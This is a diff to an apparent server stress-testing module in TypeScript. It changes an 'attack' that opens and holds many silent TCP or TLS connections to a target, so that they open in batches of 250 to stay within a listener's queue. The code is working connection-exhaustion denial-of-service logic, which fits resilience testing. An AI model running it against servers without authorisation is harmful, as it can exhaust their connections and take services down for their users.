@@ -4,6 +4,7 @@
  * An attack begins, goes on beside the victim, and says when it is done; it never throws.
  */
 
+import type { Socket } from 'node:net';
 import { FLAG, FRAME, fields, frame, integer, RawHttp2, requestFields, text, connectTo } from './raw-http2';
 import type { Target } from './target';
 
@@ -71,7 +72,14 @@ export function silentConnections(count: number, handshake: boolean): Attack {
     name: `${count} silent ${handshake ? 'TLS' : 'TCP'} connections`,
     async begin(target) {
       const to = handshake ? target : { ...target, tls: undefined };
-      const all = await Promise.all(Array.from({ length: count }, () => connectTo(to)));
+      const all: Socket[] = [];
+      // Not more at once than a listener's queue holds: the rest would be connections to this side only.
+      while (all.length < count)
+        all.push(
+          ...(await Promise.all(
+            Array.from({ length: Math.min(250, count - all.length) }, () => connectTo(to)),
+          )),
+        );
       const open = () => all.filter((socket) => !socket.destroyed && socket.readable).length;
       all.forEach((socket) => socket.on('error', () => undefined).resume());
       return { sent: Promise.resolve(), open, end: () => all.forEach((socket) => socket.destroy()) };
